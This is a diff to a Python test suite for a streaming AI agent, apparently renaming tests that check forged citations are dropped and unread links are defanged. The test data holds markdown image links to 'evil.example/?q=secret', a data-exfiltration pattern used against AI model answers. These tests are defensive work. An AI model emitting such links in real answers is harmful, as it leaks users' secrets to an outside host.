@@ -43,7 +43,7 @@ async def events(answer: httpx.Response) -> AsyncIterator[tuple[str, Any]]:
             yield name, json.loads(line.removeprefix("data: "))
 
 
-async def test_a_run_tells_what_it_does_as_it_does_it(
+async def test_a_run_streams_an_event_for_each_step(
     reached: Author, knowledge: Knowledge, scripted: ScriptedModel
 ) -> None:
     search = call("search_knowledge_base", json.dumps({"query": FENCE}))
@@ -79,7 +79,7 @@ async def test_a_streamed_answer_links_only_to_addresses_that_the_run_has_read(
     assert shown == "So it is, you see: ![a b] (https[:]//evil.example/?q=secret) and https[:]//evil.example/secret"
 
 
-async def test_a_forged_citation_is_not_even_told(
+async def test_a_forged_citation_is_not_streamed(
     reached: Author, knowledge: Knowledge, scripted: ScriptedModel
 ) -> None:
     search = call("search_knowledge_base", json.dumps({"query": FENCE}))
@@ -98,7 +98,7 @@ async def test_a_forged_citation_is_not_even_told(
 
 
 @pytest.mark.parametrize("clean_strings", [True, False])
-async def test_the_strings_of_an_answer_by_a_schema_are_told_as_they_end_up(
+async def test_the_strings_of_an_answer_by_a_schema_are_streamed_in_their_final_form(
     reached: Author, scripted: ScriptedModel, *, clean_strings: bool
 ) -> None:
     written = '{"a": "it is, you see: ![a b](https://evil.example/?q=secret)", "b": [1, "and https://evil.example/"]}'
